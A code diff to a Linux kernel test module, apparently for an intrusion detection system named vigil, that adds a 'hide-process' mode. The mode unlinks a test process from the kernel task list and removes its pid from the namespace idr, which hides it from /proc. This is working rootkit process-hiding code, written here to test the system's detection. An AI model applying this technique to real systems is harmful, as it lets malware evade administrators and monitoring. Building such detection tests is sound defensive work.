@@ -13,7 +13,18 @@
  *            compares them with the profile and with the KASLR slide vigil
  *            reported.
  *
- * The rootkit techniques of the IDS tests are to be further modes.
+ *   hide-process  DKOM: the process named "vhide" (tests/linux/prog/vhide.c,
+ *            started by /init on vigilprog=vhide) is unlinked from the task
+ *            list (list_del_init on task->tasks, under tasklist_lock, found
+ *            through kallsyms as it is not exported) and
+ *            its pid is taken out of the pid namespace's lookup (the idr
+ *            slot is set to NULL: /proc neither lists nor finds it, and the
+ *            number stays taken). The pid hash of the task (its struct pid)
+ *            is left alone. It keeps running: the scheduler does not use
+ *            the list. Proof: "VIGIL-MOD hide-process hidden pid N comm
+ *            vhide tsc T", then /init finds /proc/N gone while vhide prints.
+ *
+ * The other rootkit techniques of the IDS tests are to be further modes.
  */
 #include <linux/module.h>
 #include <linux/kernel.h>
@@ -26,6 +37,8 @@
 #include <linux/fs.h>
 #include <linux/net.h>
 #include <net/sock.h>
+#include <linux/idr.h>
+#include <linux/pid_namespace.h>
 #include <asm/msr.h>
 #include <asm/page.h>
 
@@ -34,7 +47,7 @@ MODULE_DESCRIPTION("vigil's test module: the kernel's own view for the IDS tests
 
 static char *mode = "offsets";
 module_param(mode, charp, 0444);
-MODULE_PARM_DESC(mode, "what to do at load: offsets");
+MODULE_PARM_DESC(mode, "what to do at load: offsets, hide-process");
 
 /* kallsyms_lookup_name is not exported: its address from a kprobe on it. */
 typedef unsigned long (*lookup_fn)(const char *name);
@@ -130,6 +143,35 @@ static void mode_offsets(void)
 	rcu_read_unlock();
 }
 
+static int mode_hide_process(void)
+{
+	struct task_struct *t, *victim = NULL;
+	rwlock_t *tl = lookup ? (rwlock_t *)lookup("tasklist_lock") : NULL;  /* not exported */
+	int pid;
+
+	if (!tl) {
+		pr_info("VIGIL-MOD hide-process: tasklist_lock not found\n");
+		return -ENOENT;
+	}
+	write_lock_irq(tl);
+	for_each_process(t)
+		if (!strcmp(t->comm, "vhide") && t->mm) {
+			victim = t;
+			break;
+		}
+	if (!victim) {
+		write_unlock_irq(tl);
+		pr_info("VIGIL-MOD hide-process: no process named vhide (vigilprog=vhide starts it)\n");
+		return -ESRCH;
+	}
+	pid = victim->tgid;
+	list_del_init(&victim->tasks);          /* gone from for_each_process; a later exit unlinks nothing */
+	idr_replace(&init_pid_ns.idr, NULL, pid); /* /proc's readdir and lookup go through the idr */
+	write_unlock_irq(tl);
+	pr_info("VIGIL-MOD hide-process hidden pid %d comm vhide tsc %llu\n", pid, (unsigned long long)rdtsc());
+	return 0;
+}
+
 static int __init vigiltest_init(void)
 {
 	int r = find_lookup();
@@ -139,8 +181,12 @@ static int __init vigiltest_init(void)
 	pr_info("VIGIL-MOD start mode=%s\n", mode);
 	if (!strcmp(mode, "offsets")) {
 		mode_offsets();
+	} else if (!strcmp(mode, "hide-process")) {
+		r = mode_hide_process();
+		if (r)
+			return r;
 	} else {
-		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets\n", mode);
+		pr_info("VIGIL-MOD error: unknown mode \"%s\"; known: offsets, hide-process\n", mode);
 		return -EINVAL;
 	}
 	pr_info("VIGIL-MOD done mode=%s\n", mode);
